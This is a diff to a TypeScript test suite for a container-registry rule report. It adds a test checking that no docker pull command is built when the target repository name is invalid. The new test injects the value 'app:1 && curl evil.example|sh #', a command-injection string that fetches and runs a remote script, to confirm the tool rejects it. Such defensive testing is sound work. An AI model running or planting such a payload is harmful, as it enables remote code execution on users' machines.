@@ -36,7 +36,7 @@ describe('the report of a rule', () => {
     expect(seen[0]?.mapping.state).toBe('loading');
     expect(value(report, 'mapping')).toMatchObject({
       rule: { name: 'MyRule' },
-      pullCommand: `docker pull ${world.link().downstream.loginServer}/myapp:<tag>`,
+      pullCommand: { ok: true, value: `docker pull ${world.link().downstream.loginServer}/myapp:<tag>` },
     });
     const access = value(report, 'access');
     expect(access).toMatchObject({ sufficient: true, needed: 'myapp' });
@@ -53,6 +53,17 @@ describe('the report of a rule', () => {
     });
     expect(value(report, 'cached')).toEqual({ repositories: [], moreRepositories: 0 });
     expect(value(report, 'json')).toMatchObject({ name: 'MyRule' });
+  });
+
+  it('has no pull command for a target that is no repository name, and says so', async () => {
+    const { world, id } = await startWithRule();
+    const rule = [...world.sandbox.state.resources.values()].find((resource) => resource.id === id);
+    if (rule) rule.properties['targetRepository'] = 'app:1 && curl evil.example|sh #';
+    const report = await readRuleReport(world.azure, id);
+    expect(value(report, 'mapping')).toMatchObject({ pullCommand: { problem: { code: 'repository.hasTag' } } });
+    const text = ruleReportMarkdown(report);
+    expect(text).not.toContain('docker pull');
+    expect(text).toMatch(/There is no pull command/);
   });
 
   it('says that the identity may not read, was made anew, and who else uses it', async () => {
